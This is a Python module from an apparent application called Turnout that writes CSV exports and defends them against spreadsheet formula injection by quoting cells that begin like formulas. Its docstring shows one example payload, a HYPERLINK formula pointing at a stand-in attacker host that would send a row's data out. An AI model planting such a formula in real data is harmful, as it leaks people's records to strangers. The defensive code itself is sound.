"""The one CSV writer: every file Turnout writes for people to open in a spreadsheet goes through it.

A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage
return) as a formula. A name typed on a public form as `=HYPERLINK("http://evil.example/?"&A1,"Click")`
would become, in a staffer's spreadsheet, a link that sends the row to a stranger. As OWASP advises,
such a cell is written with a single quote in front, and every cell is quoted, so that a
spreadsheet that honours quotes keeps a value holding a `;` or a tab in one cell even when it
splits on those (a formula after the `;` would otherwise start a cell of its own).

The rule holds for every text cell, whatever its column: a phone number such as `+12065550123` is
written `'+12065550123` too (a spreadsheet would otherwise read it as a sum and drop the plus), so
nothing depends on knowing which column a value came from. Numbers Turnout computes (ints, floats,
decimals) are written as they are: `-5` from Python is a number, not a formula. Turnout's importers
take the quote off again (`as_typed`), so an export imports back unchanged.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any, Protocol

# What a spreadsheet takes as the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """A cell a spreadsheet shows and never runs: text starting like a formula gets a quote in front."""
    if value is None or isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    # After any quotes already there: `'=1` gains one too, so `as_typed` gives back exactly what was written.
    return "'" + text if text.lstrip("'").startswith(FORMULA_STARTS) else text


def as_typed(text: str) -> str:
    """A cell read back from an export: the quote `safe_cell` put before a formula's first character comes off."""
    return text[1:] if text[:1] == "'" and text.lstrip("'").startswith(FORMULA_STARTS) else text


class SafeWriter:
    """`csv.writer`, with every cell passed through `safe_cell` and every cell quoted."""

    def __init__(self, out: Writable) -> None:
        self._writer = csv.writer(out, quoting=csv.QUOTE_ALL)  # noqa: TID251 (this is the one writer)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: Writable) -> SafeWriter:
    """The writer for a file, a response or standard output."""
    return SafeWriter(out)


class _Line:
    def write(self, text: str) -> str:
        return text


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """Each row as one CSV line, for a StreamingHttpResponse: memory holds one row, however many follow."""
    writer = SafeWriter(_Line())
    for row in rows:
        yield writer.writerow(row)
